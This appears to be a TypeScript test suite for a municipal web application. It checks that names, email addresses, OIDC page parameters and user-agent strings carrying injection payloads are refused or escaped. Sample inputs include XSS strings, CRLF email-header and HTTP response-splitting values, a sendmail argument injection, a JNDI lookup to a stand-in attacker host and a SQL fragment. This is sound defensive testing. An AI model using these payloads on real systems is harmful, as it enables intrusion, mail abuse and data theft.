import { beforeAll, describe, expect, it } from 'vitest'
import { createMailer } from '../platform/mail/index.ts'
import type { Browser } from '../testing/browser.ts'
import { startMailServer } from '../testing/mail-server.ts'
import { registerSuiteApplication } from '../testing/suite-application.ts'
import { type TestOrganization, useTestApp } from '../testing/test-app.ts'
import { asOwner, unwritten } from '../testing/trace-queries.ts'

const test = useTestApp({ listens: true })
let organization: TestOrganization
let admin: Browser
let base: string

beforeAll(async () => {
  const provider = await test.organization('editeur', 'provider')
  await registerSuiteApplication(test, provider, { key: 'devis' })
  organization = await test.organization('commune')
  admin = await test.signedIn(organization)
  base = `/organizations/${organization.slug}`
})

const html = '<img src=x onerror=alert(1)>"\'><script>alert(1)</script>'
/** Line ends as mail programs, terminals and browsers know them, and signs that turn text round or hide it. */
const breaks = [
  '\r\nBcc: voleur@ailleurs.example',
  '\nX-Evil: 1',
  '\r',
  '\u0000',
  '\u0085',
  '\u2028x',
  '\u2029x',
  '\u001b[2J',
  '\u202eelpmaxe',
  '\u200b',
  '\ufeff',
]

let people = 0
const invite = (values: object) => {
  people += 1
  const person = {
    signInName: `nommee${people}`,
    firstName: 'No',
    lastName: 'Mmée',
    email: `nommee${people}@mairie.example`,
  }
  return admin.post(`${base}/users`, { ...person, sendInvitation: true, ...values })
}

describe('a name', () => {
  it.each(breaks)(
    'with %j in it is refused in every field that people read: no line, header or sign is made up',
    async (sign) => {
      const letters = test.outbox.letters.length
      for (const field of ['firstName', 'lastName', 'signInName', 'position', 'email']) {
        const value = field === 'email' ? `a${sign}@mairie.example` : `Eve${sign}`
        const answer = await unwritten(test.database, () => invite({ [field]: `${value}` }))
        expect([field, answer.status]).toEqual([field, 400])
      }
      const tag = await unwritten(test.database, () => admin.post(`${base}/tags`, { name: `x${sign}y` }))
      const user = `${base}/users/${organization.adminId}`
      const reason = await unwritten(test.database, () => admin.post(`${user}/deactivate`, { reason: `x${sign}y` }))
      expect([tag.status, reason.status]).toEqual([400, 400])
      expect(test.outbox.letters).toHaveLength(letters)
    },
  )

  it('full of HTML stands as text in each letter, and the organization’s name beside it', async () => {
    await asOwner(test.database, 'update organizations set name = $1 where id = $2', [html, organization.id])
    const email = 'html@mairie.example'
    await invite({ email, firstName: html.slice(0, 40), lastName: '{{link}} $t(x) %s #{7*7}' })
    const [letter] = await test.outbox.lettersTo(email)
    expect(letter?.html).not.toMatch(/<img|<script|onerror=alert\(1\)>/)
    expect(letter?.html).toContain('&lt;img')
    expect(`${letter?.subject}${letter?.to.name}`).not.toMatch(/[\r\n\u2028\u2029]/)
    expect(letter?.text).toContain('{{link}} $t(x) %s #{7*7}')
    expect(letter?.text.match(/#[0-9a-f]{32}\./g)).toHaveLength(1)
  })

  it('makes no second recipient or header of a real mail, were it stored by other means', async () => {
    const server = await startMailServer()
    const mailer = createMailer({ smtpUrl: server.url, from: { name: 'Guichet', address: 'no-reply@mairie.example' } })
    const letter = { subject: 'Bonjour\r\nBcc: voleur@ailleurs.example', text: 'x', html: '<p>x</p>' }
    const to = { name: 'Eve <voleur@ailleurs.example>, \r\nCc: voleur@ailleurs.example', address: 'eve@mairie.example' }
    await mailer.send({ to, ...letter }).catch(() => undefined)
    mailer.close()
    await server.close()
    for (const { recipients, mail } of server.arrived) {
      expect(recipients).toEqual(['eve@mairie.example'])
      expect([mail.cc, mail.bcc]).toEqual([undefined, undefined])
    }
  })
})

describe('an address', () => {
  it.each([
    'a@mairie.example,voleur@ailleurs.example',
    'a@mairie.example;voleur@ailleurs.example',
    'a@mairie.example voleur@ailleurs.example',
    'a@mairie.example\r\nBcc:voleur@ailleurs.example',
    'Eve <voleur@ailleurs.example>',
    '<voleur@ailleurs.example>',
    '"<script>"@mairie.example',
    'a@mairie.example>',
    'a@[127.0.0.1]',
    '@mairie.example',
    'a@@mairie.example',
    'a@mairie.example%0aBcc:x@y.example',
    '-oQ/tmp -X/tmp/x@mairie.example',
  ])('%j is refused wherever one is taken: nobody else is written to', async (email) => {
    const letters = test.outbox.letters.length
    const made = await unwritten(test.database, () => invite({ email }))
    const mine = await unwritten(test.database, () => admin.post('/me/email', { email }))
    const changed = await unwritten(test.database, () =>
      admin.patch(`${base}/users/${organization.adminId}`, { email }),
    )
    for (const { status } of [made, mine, changed]) expect([400, 422]).toContain(status)
    expect(test.outbox.letters).toHaveLength(letters)
  })
})

describe('a page of the provider', () => {
  const page = async (path: string) => {
    const answer = await fetch(`${test.baseUrl}${path}`, { redirect: 'manual', headers: { accept: 'text/html' } })
    return { status: answer.status, text: await answer.text(), headers: answer.headers }
  }

  it('shows what the address says as text, and runs no script if it did not', async () => {
    for (const name of [
      'client_id',
      'redirect_uri',
      'response_type',
      'scope',
      'state',
      'ui_locales',
      'prompt',
      'request',
      'error',
      'error_description',
    ]) {
      const query = new URLSearchParams({ client_id: 'devis', [name]: html })
      for (const path of ['/oidc/auth', '/oidc/session/end', '/oidc/session/end/success']) {
        const { text, headers } = await page(`${path}?${query}`)
        expect([path, name, /<img|<script>alert/.test(text)]).toEqual([path, name, false])
        if (text !== '') expect(headers.get('content-security-policy')).not.toMatch(/unsafe-inline|unsafe-eval|\*/)
      }
    }
  })

  it('sets no header or cookie by a line break in the address', async () => {
    for (const value of [
      'a%0d%0aSet-Cookie:%20guichet=vol',
      'a%0aLocation:%20https://voleur.example',
      '%E5%98%8D%E5%98%8ASet-Cookie:x=1',
    ]) {
      for (const path of [
        `/oidc/auth?client_id=devis&state=${value}&redirect_uri=${value}`,
        `/oidc/session/end?state=${value}`,
      ]) {
        const { headers } = await page(path)
        expect(JSON.stringify([...headers])).not.toMatch(/guichet=vol|voleur|x=1/)
      }
    }
  })
})

describe('a browser that calls itself something', () => {
  it('puts nothing of it where people read: the list of devices names browsers it knows', async () => {
    const agents = [
      html,
      `Mozilla/5.0 (X11; Linux) ${html} Firefox/140.0`,
      '{jndi:ldap://voleur.example/a}',
      '('.repeat(4000),
      "' or 1=1 --",
    ]
    for (const agent of agents) {
      const browser = test.stranger()
      const credentials = { signInName: 'admin', password: 'vingt-deux tilleuls bleus', organization: 'commune' }
      const opened = await browser.post('/session', credentials, { 'user-agent': agent })
      expect(opened.status).toBe(200)
      const told = JSON.stringify((await browser.get('/me/devices')).body)
      expect(told).not.toMatch(/<img|<script|jndi|1=1/)
      await browser.delete('/session')
    }
    const journal = JSON.stringify((await admin.get(`${base}/journal?limit=200`)).body)
    expect(journal).not.toMatch(/jndi|1=1 --/)
  })
})
